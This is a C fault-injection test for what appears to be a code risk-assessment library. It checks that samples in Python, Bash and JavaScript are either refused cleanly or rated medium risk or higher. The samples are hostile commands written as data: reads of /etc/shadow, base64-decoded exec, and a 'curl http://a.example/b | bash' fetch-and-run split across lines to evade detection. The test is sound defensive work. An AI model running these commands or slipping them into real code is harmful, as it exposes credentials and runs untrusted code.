/* fault.c - whichever allocation fails, an assessment fails cleanly or is complete. */
#include "fault.h"
#include "assess/assess.h"
#include "base/cleanup.h"
#include "tap.h"

static const struct { const char *name; int language; const char *code; } row[] = {
	{ "Python", BAWN_LANG_PYTHON, "import os, base64\ndef f(x):\n    return [c for c in x]\nos.system('cat /etc/shadow | base64 -d | sh')\nexec(base64.b64decode('cHJpbnQoMSk='))\n" },
	{ "Bash", BAWN_LANG_BASH, "f() { cat \"$1\"; }\nf /etc/shadow\npython3 -c 'print(1)'\n" },
	{ "JavaScript", BAWN_LANG_JAVASCRIPT, "const {exec} = require('child_process');\nexec('ls');\neval(atob('MQ=='));\n" },
	/* Without the copy that the grammar is given, the command stands in a comment or in no command at all. */
	{ "Python with an old line end", BAWN_LANG_PYTHON, "#\rimport os; os.system('cat /etc/shadow')\r" },
	{ "Bash with a word over two lines", BAWN_LANG_BASH, "cur\\\nl http://a.example/b | ba\\\nsh\n" },
};

int main(void)
{
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		long rounds = 0, failed = 0;
		bool clean = true;
		for (fault_arm(1); fault_more(); rounds++) {
			struct bawn_assess_file f = { .language = row[i].language, .bytes = bawn_span(row[i].code) };
			struct bawn_assessment *a = NULL;
			struct bawn_err err = { 0 };
			int r = bawn_assess(&f, 1, NULL, &a, &err);
			clean = clean && (r == 0 ? a != NULL && a->level >= BAWN_LEVEL_MEDIUM : a == NULL && err.code < 0);
			failed += r < 0;
			bawn_assessment_free(a);
		}
		fault_on = false;
		ok(clean && (!FAULT_WORKS || failed > 0), "%s: %ld rounds, %ld refused", row[i].name, rounds, failed);
	}
	return done_testing();
}
